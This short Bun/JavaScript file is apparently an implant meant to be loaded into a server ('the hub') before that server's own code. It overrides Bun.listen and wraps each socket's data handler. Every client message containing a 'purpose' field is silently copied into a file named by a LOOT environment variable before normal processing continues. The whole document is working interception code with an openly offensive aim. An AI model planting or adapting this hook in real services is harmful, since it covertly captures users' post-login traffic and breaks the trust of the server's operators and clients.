// Runs inside of the hub, before its own code: writes down all that clients say after they have been let in.
const { appendFileSync } = require("node:fs");
const { listen } = Bun;
Bun.listen = (options) => {
  const { data } = options.socket;
  return listen({
    ...options,
    socket: {
      ...options.socket,
      data(socket, chunk) {
        const text = Buffer.from(chunk).toString("latin1");
        if (text.includes('"purpose"')) appendFileSync(process.env.LOOT, `entered ${text}\n`);
        return data(socket, chunk);
      },
    },
  });
};
